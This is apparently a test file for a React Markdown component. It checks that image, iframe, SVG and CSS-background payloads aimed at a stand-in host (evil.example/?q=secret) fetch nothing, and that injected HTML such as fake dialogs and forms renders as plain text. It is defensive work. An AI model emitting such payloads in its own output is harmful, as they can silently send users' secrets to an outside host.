import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

const html = (text: string, streaming = false) => renderToStaticMarkup(createElement(Markdown, { text, streaming }));
/** Anything that a browser would fetch by itself. */
const FETCHES =
  /<(?:img|source|video|audio|iframe|object|embed|link|input|svg|image)\b[^>]*(?:src|srcset|href|data|poster)=/i;

/** An element with an id or a name. */
const NAMED = /<[a-z][^<>]*\s(?:id|name)=/i;

describe('pictures in a message', () => {
  it.each([
    '![the plan](https://evil.example/?q=secret)',
    '<img src="https://evil.example/?q=secret" alt="the plan">',
    '![the plan](//evil.example/?q=secret)',
    '![the plan](/api/auth/callback/email?token=secret)',
    '![the plan](data:image/png;base64,iVBORw0KGgo=)',
    '![the plan](data:image/svg+xml;base64,PHN2Zy8+)',
    '![the plan][1]\n\n[1]: https://evil.example/?q=secret',
    '<picture><source srcset="https://evil.example/?q=secret"><img src="https://evil.example/x" alt="the plan"></picture>',
    '<video src="https://evil.example/?q=secret" poster="https://evil.example/x"></video>',
    '<iframe src="https://evil.example/?q=secret"></iframe>',
    '<svg><image href="https://evil.example/?q=secret" /></svg>',
    '<p style="background:url(https://evil.example/?q=secret)">the plan</p>',
  ])('fetches nothing for %s', (text) => {
    for (const streaming of [false, true]) {
      const page = html(text, streaming);
      expect(page).not.toMatch(FETCHES);
      expect(page).not.toMatch(/style="[^"]*evil/);
    }
  });

  it('is a link to follow by hand', () => {
    expect(html('![the plan](https://evil.example/x)')).toMatch(
      /<a [^>]*href="https:\/\/evil\.example\/x"[^>]*>the plan<\/a>/,
    );
  });
});

describe('HTML in a message', () => {
  it.each([
    '<details open><summary>Approve the plan</summary>\n\nhidden\n\n</details>',
    'before <details><summary>more</summary>hidden</details> after',
    '<DETAILS><SUMMARY>x</SUMMARY></DETAILS>',
    '<div id="content" class="fixed inset-0">over everything</div>',
    '<a name="body" href="/x">x</a>',
    '<span id="__next">x</span>',
    '<h1 id="title">Balance: 0</h1>',
    '<form action="/api/auth/signout"><button>Sign in again</button></form>',
    '<dialog open>Your session has expired</dialog>',
    '<input id="a" name="b" value="c">',
    '<p align="center" dir="rtl">x</p>',
    '<table><tr><td id="x">1</td></tr></table>',
    '<!-- note -->',
  ])('is shown as the text it is: %s', (text) => {
    for (const streaming of [false, true]) {
      const page = html(text, streaming);
      expect(page).not.toMatch(/<(?:details|summary|form|button|dialog|input|table|h\d|div id)/i);
      expect(page).not.toMatch(NAMED);
      // Nothing is lost either: a browser shows every character that was written.
      const shown = page
        .replaceAll(/<[^>]*>/g, '')
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&quot;', '"');
      for (const word of text.match(/<\/?[a-z]+|[\w ]{4,}/gi) ?? []) expect(shown).toContain(word.trim());
    }
  });

  it('leaves no id or name on what Markdown itself makes', () => {
    const page = html('# Title\n\nA note[^1] and a [link](#title).\n\n- [x] done\n\n[^1]: Below.');
    expect(page).toContain('Below.');
    expect(page).not.toMatch(NAMED);
  });

  it('breaks lines within a table, which Markdown has no sign for', () => {
    expect(html('| a |\n|---|\n| one<br>two |')).toMatch(/one<br\/?>\s*two/);
  });
});
